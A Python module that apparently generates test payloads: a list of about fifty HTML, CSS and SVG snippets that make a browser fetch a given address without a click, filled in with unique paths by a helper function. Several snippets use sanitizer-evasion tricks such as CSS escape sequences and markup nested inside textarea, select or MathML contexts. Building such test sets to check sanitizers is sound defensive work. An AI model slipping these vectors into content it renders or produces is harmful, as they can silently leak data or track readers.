"""Markup that makes a browser request `{}` without a click, once it is carried as markup."""

from __future__ import annotations

LOADS = """
<img src="{}">
<img srcset="{} 2x, {} 1x">
<img src="data:," lowsrc="{}" longdesc="{}" style="background:url({})">
<picture><source srcset="{}"><img></picture>
<image src="{}">
<input type=image src="{}">
<body background="{}">
<table background="{}"><tr><td background="{}">x</table>
<link rel=stylesheet href="{}">
<link rel=preload as=image href="{}">
<link rel=prefetch href="{}"><link rel=icon href="{}">
<link rel=modulepreload href="{}">
<link rel=manifest href="{}">
<style>@import url("{}");</style>
<style>body {{ background: url({}) }}</style>
<style>@font-face {{ font-family: f; src: url({}) }} * {{ font-family: f }}</style>
<p style="background-image:url({})">x
<p style="background:image-set(url({}) 1x)">x
<p style="list-style-image:url({});display:list-item">x
<p style="content:url({})">x
<p style="cursor:url({}),auto">x
<p style="mask-image:url({})">x
<p style="--a:url({});background:var(--a)">x
<p style="back\\67round:u\\72l({})">x
<script src="{}"></script>
<iframe src="{}"></iframe>
<iframe srcdoc="<img src={}>"></iframe>
<object data="{}"></object>
<embed src="{}">
<frameset><frame src="{}"></frameset>
<video poster="{}" src="{}" autoplay preload=auto></video>
<audio src="{}" autoplay preload=auto></audio>
<video><track default src="{}"><source src="{}"></video>
<svg><image href="{}" width=9 height=9 /></svg>
<svg><use href="{}#a" /></svg>
<svg><style>@import url("{}");</style></svg>
<svg><feImage href="{}" /><foreignObject><img src="{}"></foreignObject></svg>
<math><mtext><img src="{}"></mtext></math>
<meta http-equiv=refresh content="0;url={}">
<base href="{}"><img src="relative.png">
<form action="{}" id=f><input name=a autofocus><button form=f>x</button></form>
<template><img src="{}"></template><img src="{}">
<noscript><img src="{}"></noscript>
<amp-img src="{}"></amp-img><img src="{}">
<details open><summary>x</summary><img src="{}"></details>
<textarea></textarea><img src="{}">
<select><option><img src="{}"></select>
<math><annotation-xml encoding="text/html"><img src="{}"></annotation-xml></math>
<table><img src="{}"><tr><td>x</table>
<a href="{}" ping="{}" autofocus>x</a><img src="{}">
""".strip().splitlines()


def make_loads(address: str) -> list[str]:
    """Return the vectors; each requests a path of its own below the address."""
    filled = (vector.replace("{}", f"{address}{n}") for n, vector in enumerate(LOADS))
    return [vector.replace("{{", "{").replace("}}", "}") for vector in filled]
